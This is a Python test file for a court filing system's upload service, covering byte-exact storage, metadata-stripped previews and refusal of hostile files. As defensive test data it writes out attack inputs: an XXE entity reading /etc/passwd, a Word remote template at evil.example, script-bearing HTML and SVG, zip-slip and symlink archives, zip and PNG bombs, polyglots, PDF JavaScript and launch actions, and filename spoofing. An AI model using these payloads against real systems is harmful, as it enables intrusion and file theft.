"""Receiving files: what is taken is kept byte for byte, what is refused says what to do (RELIABILITY §6, 55–65)."""

from __future__ import annotations

import hashlib
import io
import uuid
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.db import connection
from PIL import Image

from accounts.models import User
from common.actor import Actor
from common.errors import InvalidInput
from courts.models import Court
from documents import names
from documents.models import StoredFile
from documents.services import PageState, kept_page, page_state, receive_file
from documents.services.uploads import KINDS
from tests.documents import craft
from tests.support.drawing import draw

pytestmark = pytest.mark.django_db
OWNER = uuid.UUID(int=77)
Receive = Callable[..., StoredFile]


@pytest.fixture
def receive(court: Court, litigant: tuple[User, Actor]) -> Receive:
    def take(data: bytes, name: str, declared: str = "", **options: Any) -> StoredFile:
        return receive_file(
            upload=SimpleUploadedFile(name, data, content_type=declared),
            court_id=court.pk,
            owner_kind="filing.filing",
            owner_public_id=OWNER,
            actor=litigant[1],
            **options,
        )

    return take


def refusal(receive: Receive, data: bytes, name: str, declared: str = "", **options: Any) -> str:
    """The sentence beside the field; nothing was kept."""
    with pytest.raises(InvalidInput) as error:
        receive(data, name, declared, **options)
    assert list(error.value.fields) == ["file"] and error.value.fields["file"] == error.value.message
    assert not StoredFile.objects.exists()
    for folder in ("files", "previews"):
        assert not default_storage.exists(folder) or not default_storage.listdir(folder)[1]
    return str(error.value)


GOOD = {
    "借条.jpg": (craft.photo(), "image/jpeg"),
    "借条.JPEG": (craft.photo(), ""),
    "转账.png": (craft.photo("PNG"), "image/png"),
    "IMG_0001.HEIC": (craft.photo("HEIF"), "application/octet-stream"),
    "合同.pdf": (craft.pdf(pages=3), "application/pdf"),
    "起诉状.docx": (craft.word(), craft.WORD),
}


@pytest.mark.req("SEC-50", "SEC-55")
@pytest.mark.parametrize("name", GOOD)
def test_what_the_form_takes_is_kept_byte_for_byte(name: str, receive: Receive, court: Court) -> None:
    data, declared = GOOD[name]
    file = receive(data, name, declared)
    file.refresh_from_db()
    with default_storage.open(file.storage_key) as kept:
        assert kept.read() == data
    assert file.sha256 == hashlib.sha256(data).hexdigest()
    assert (file.size_bytes, file.display_name, file.court_id) == (len(data), name, court.pk)
    assert file.content_type == KINDS[name.lower().replace("jpeg", "jpg")[-4:].strip(".")].content_type
    assert file.pages == (3 if name.endswith("pdf") else 1)
    assert name not in file.storage_key
    assert bool(file.preview_key) != name.endswith("docx")


def test_the_preview_of_a_photo_is_upright_and_clean(receive: Receive) -> None:
    file = receive(craft.photo_with_position(), "a.jpg", "image/jpeg")
    with default_storage.open(file.preview_key) as kept:
        raw = kept.read()
    preview = Image.open(io.BytesIO(raw))
    assert preview.size == (300, 400)
    assert not preview.getexif() and b"Secret" not in raw and b"Exif" not in raw
    preview.close()


def test_a_large_photo_gets_a_preview_that_fits(receive: Receive) -> None:
    file = receive(craft.photo(size=(5200, 2600)), "a.jpg")
    with default_storage.open(file.preview_key) as kept, Image.open(kept) as preview:
        assert preview.size == (2600, 1300)


def test_transparency_becomes_paper(receive: Receive) -> None:
    buffer = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(buffer, "PNG")
    file = receive(buffer.getvalue(), "a.png")
    with default_storage.open(file.preview_key) as kept, Image.open(kept) as preview:
        assert preview.getpixel((5, 5)) == (255, 255, 255)


@pytest.mark.req("SEC-51")
def test_the_preview_of_a_pdf_has_nothing_active(receive: Receive) -> None:
    data = craft.pdf(craft.attachment_and_links)
    file = receive(data, "发票.pdf", "application/pdf")
    with default_storage.open(file.preview_key) as kept, pikepdf.open(kept) as preview:
        assert not {"/AF", "/OpenAction", "/AA"} & set(preview.Root.keys())
        assert not preview.attachments
        (link,) = preview.pages[0].Annots
        assert "/A" not in link
        assert b"invoice" not in preview.Root.unparse(resolved=True)


@pytest.mark.parametrize("packed", [False, True])
def test_the_preview_of_a_pdf_tells_nothing_of_its_author(receive: Receive, packed: bool) -> None:
    """Neither where and with what its photos were taken, nor who made it; the picture itself stays the same."""
    photo = craft.photo_with_position()
    file = receive(craft.pdf_of_a_photo(photo, packed=packed), "扫描.pdf", "application/pdf")
    with default_storage.open(file.preview_key) as kept, pikepdf.open(kept) as preview:
        everything = [item.unparse(resolved=True) for item in preview.objects]
        picture = preview.pages[0].Resources.XObject.Im0.read_raw_bytes()
    assert b"Secret" not in b"".join([*everything, picture]) and b"Exif" not in picture
    with Image.open(io.BytesIO(picture)) as shown, Image.open(io.BytesIO(photo)) as taken:
        assert shown.tobytes() == taken.tobytes() and not shown.getexif()


def test_a_pdf_with_an_empty_password_is_readable(receive: Receive) -> None:
    file = receive(craft.locked_pdf(""), "回单.pdf")
    with default_storage.open(file.preview_key) as kept, pikepdf.open(kept) as preview:
        assert not preview.is_encrypted


EXE = b"MZ\x90\x00" + b"\0" * 200 + b"This program cannot be run in DOS mode."
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP = craft.archive({"a.txt": b"x"})
REMOTE = {
    "word/_rels/settings.xml.rels": craft.relationship("attachedTemplate", "http://evil.example/t.dotm")
}
LINKED = {"word/_rels/document.xml.rels": craft.relationship("hyperlink", "http://court.example/")}
XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {craft.W}>&e;</w:document>'.encode()

BAD: dict[str, tuple[bytes, str, str, str]] = {
    # what: bytes, name, declared, words of the answer
    "55 exe named pdf": (EXE, "判决.pdf", "application/pdf", "这个PDF打不开"),
    "55 html named pdf": (HTML, "a.pdf", "application/pdf", "这个PDF打不开"),
    "55 html": (HTML, "a.html", "text/html", "这里可以上传JPG"),
    "65 svg": (SVG, "a.svg", "image/svg+xml", "这里可以上传JPG"),
    "65 svg named png": (SVG, "a.png", "image/png", "照片打不开，请重新拍一张"),
    "65 tiff": (craft.photo("TIFF"), "a.tiff", "image/tiff", "这里可以上传JPG"),
    "65 tiff named jpg": (craft.photo("TIFF"), "a.jpg", "image/jpeg", "照片打不开，请重新拍一张"),
    "65 gif": (craft.photo("GIF"), "a.gif", "image/gif", "这里可以上传JPG"),
    "55 exe": (EXE, "a.exe", "", "这里可以上传JPG"),
    "62 no extension": (craft.photo(), "照片", "image/jpeg", "这里可以上传JPG"),
    "62 extension only": (craft.photo(), ".jpg", "image/jpeg", "这里可以上传JPG"),
    "62 reversed extension": (EXE, "借条‮gpj.exe", "image/jpeg", "这里可以上传JPG"),
    "55 png named jpg": (craft.photo("PNG"), "a.jpg", "image/jpeg", "里面其实是PNG"),
    "55 pdf named docx": (craft.pdf(), "a.docx", craft.WORD, "里面其实是PDF"),
    "55 declared as html": (craft.photo(), "a.jpg", "text/html", "对不上"),
    "55 polyglot pdf and zip": (craft.pdf() + ZIP, "a.pdf", "application/pdf", "夹带了别的文件"),
    "55 polyglot jpg and zip": (craft.photo() + ZIP, "a.jpg", "image/jpeg", "夹带了别的文件"),
    "55 pdf after a space": (b" " + craft.pdf(), "a.pdf", "application/pdf", "这个PDF打不开"),
    "61 empty": (b"", "a.pdf", "application/pdf", "文件是空的"),
    "58 cut jpg": (craft.photo()[:9000], "a.jpg", "image/jpeg", "照片打不开，请重新拍一张"),
    "58 cut png": (craft.photo("PNG")[:9000], "a.png", "image/png", "照片打不开，请重新拍一张"),
    "58 cut heic": (craft.photo("HEIF")[:2000], "a.heic", "image/heic", "照片打不开，请重新拍一张"),
    "58 30 000 squared png": (craft.png_bomb(), "a.png", "image/png", "照片尺寸过大"),
    "59 locked pdf": (craft.locked_pdf("secret"), "a.pdf", "application/pdf", "有密码，请去掉密码后再上传"),
    "59 broken pdf": (b"%PDF-1.7\nnothing", "a.pdf", "application/pdf", "这个PDF打不开"),
    "59 cut pdf": (craft.pdf(pages=20)[:700], "a.pdf", "application/pdf", "这个PDF打不开"),
    "59 looped pdf": (craft.looped_pdf(), "a.pdf", "application/pdf", "PDF"),
    "59 100 000 pages": (craft.pdf(craft.many_pages), "a.pdf", "application/pdf", "超过2000页，请分成几份"),
    "59 2 001 pages": (craft.pdf(pages=2001), "a.pdf", "application/pdf", "超过2000页，请分成几份"),
    "59 script on opening": (craft.pdf(craft.javascript_on_opening), "a.pdf", "", "会自动运行的程序"),
    "59 script by name": (craft.pdf(craft.javascript_by_name), "a.pdf", "", "会自动运行的程序"),
    "59 script in a field": (craft.pdf(craft.javascript_in_a_field), "a.pdf", "", "会自动运行的程序"),
    "59 launches a program": (craft.pdf(craft.launches), "a.pdf", "", "会自动运行的程序"),
    "56 plain zip as docx": (ZIP, "a.docx", craft.WORD, "这个Word文档打不开"),
    "60 macro": (craft.word({"word/vbaProject.bin": b"x"}), "a.docx", craft.WORD, "宏"),
    "60 macro type": (
        craft.word(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "a.docx",
        craft.WORD,
        "宏",
    ),
    "60 remote template": (craft.word(REMOTE), "a.docx", craft.WORD, "引用了外部内容"),
    "60 xxe": (craft.word(body=XXE), "a.docx", craft.WORD, "引用了外部内容"),
    "60 xxe in utf-16": (
        craft.word(body=XXE.decode().encode("utf-16")), "a.docx", craft.WORD, "引用了外部内容",
    ),
    "60 broken xml": (craft.word(body=b"<w:document>"), "a.docx", craft.WORD, "这个Word文档打不开"),
    "56 zip bomb": (craft.word({"word/media/a.bin": b"\0" * 30_000_000}), "a.docx", craft.WORD, "解开后过大"),
    "57 zip slip": (craft.word({"../../etc/cron.d/x": b"x"}), "a.docx", craft.WORD, "这个Word文档打不开"),
    "57 symlink": (craft.word({"word/x": b"/etc/passwd"}, links=("word/x",)), "a.docx", craft.WORD, "这个Word文档打不开"),
    "56 archive inside": (craft.word({"word/embeddings/a.zip": ZIP}), "a.docx", craft.WORD, "其他程序"),
    "56 too many members": (
        craft.word({f"word/m{i}": b"" for i in range(10_001)}), "a.docx", craft.WORD, "解开后过大",
    ),
    "60 locked docx": (craft.encrypted_archive(), "a.docx", craft.WORD, "有密码，请去掉密码后再上传"),
    "60 docx cut": (craft.word()[:-30], "a.docx", craft.WORD, "这个Word文档打不开"),
}  # fmt: skip


@pytest.mark.req("SEC-50", "SEC-51", "B-55", "B-56", "B-57", "B-58", "B-59", "B-60", "B-61", "B-65")
@pytest.mark.parametrize("what", BAD)
def test_bad_files_are_refused_with_a_sentence_that_helps(what: str, receive: Receive) -> None:
    data, name, declared, words = BAD[what]
    assert words in refusal(receive, data, name, declared)


def test_links_in_a_word_file_are_no_harm(receive: Receive) -> None:
    assert receive(craft.word(LINKED), "a.docx").pk


@pytest.mark.req("SEC-50")
def test_a_file_over_the_limit_is_refused_while_it_streams(receive: Receive, settings: Any) -> None:
    settings.MAX_FILE_BYTES = 5 * 1024 * 1024
    assert (
        refusal(receive, b"\xff\xd8\xff" + b"x" * settings.MAX_FILE_BYTES, "a.jpg")
        == "文件超过5MB，请分成几份"
    )


@pytest.mark.req("SEC-50", "B-61")
def test_a_false_length_means_nothing(court: Court, litigant: tuple[User, Actor], settings: Any) -> None:
    settings.MAX_FILE_BYTES = 1000
    upload = UploadedFile(io.BytesIO(craft.photo()), "a.jpg", "image/jpeg", size=10)
    with pytest.raises(InvalidInput):
        receive_file(
            upload=upload, court_id=court.pk, owner_kind="x", owner_public_id=OWNER, actor=litigant[1]
        )


@pytest.mark.req("SEC-50")
def test_a_form_takes_what_it_says_only(receive: Receive) -> None:
    message = refusal(receive, craft.word(), "a.docx", allowed=("jpg", "pdf"))
    assert message == "这里可以上传JPG、PDF，请换一个文件"


@pytest.mark.req("SEC-50")
def test_quotas_of_one_owner(receive: Receive) -> None:
    data = craft.photo()
    receive(data, "1.jpg", max_files=2)
    receive(data, "2.jpg", max_files=2)
    with pytest.raises(InvalidInput, match="最多上传2个文件"):
        receive(data, "3.jpg", max_files=2)
    with pytest.raises(InvalidInput, match="加起来超过"):
        receive(data, "3.jpg", max_total_bytes=2 * len(data) + 1)
    assert StoredFile.objects.count() == 2
    assert len(default_storage.listdir("files")[1]) == 2


@pytest.mark.req("B-63")
def test_the_same_bytes_twice_are_two_files(receive: Receive) -> None:
    first, second = receive(craft.photo(), "a.jpg"), receive(craft.photo(), "a.jpg")
    assert first.storage_key != second.storage_key


@pytest.mark.django_db(transaction=True)
def test_no_transaction_is_open_while_a_file_is_inspected(
    receive: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    from documents.services import uploads

    seen: list[bool] = []
    original = uploads.inspect

    def watch(*args: Any, **named: Any) -> Any:
        seen.append(connection.in_atomic_block)
        return original(*args, **named)

    monkeypatch.setattr(uploads, "inspect", watch)
    receive(craft.photo(), "a.jpg")
    assert seen == [False]


@pytest.mark.req("SEC-52", "B-62")
@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("借条.jpg", "借条.jpg"),
        ("..\\..\\CON.jpg", "CON.jpg"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("a\u0000\u200b b\n.pdf", "a b .pdf"),
        ("e\u0301.pdf", "\u00e9.pdf"),
        ("\ud800x.pdf", "x.pdf"),
        ("长" * 300 + ".jpg", "长" * 196 + ".jpg"),
        ("x" * 300, "x" * 200),
        ("", ""),
    ],
)
def test_names_are_text_for_the_screen(raw: str, shown: str) -> None:
    assert names.display_name(raw) == shown


def test_pages_for_the_review_desk(receive: Receive) -> None:
    document = receive(craft.pdf(pages=2), "a.pdf")
    picture = receive(craft.photo(size=(3000, 2000)), "a.jpg")
    text = receive(craft.word(), "a.docx")
    assert draw(document, last=99) == 2 and draw(picture, picture, last=2) == 1 and draw(text) == 0
    for subject, number in ((document, 1), (document, 2), (picture, 1)):
        image = kept_page(subject, number)
        assert image is not None and image.startswith(b"\xff\xd8") and len(image) <= 90 * 1024
    for subject, number in ((document, 0), (document, 3), (picture, 2), (text, 1)):
        assert kept_page(subject, number) is None and page_state(subject, number) == PageState.MISSING
    assert sorted(default_storage.listdir(f"pages/{document.public_id}")[1]) == ["1.jpg", "2.jpg"]
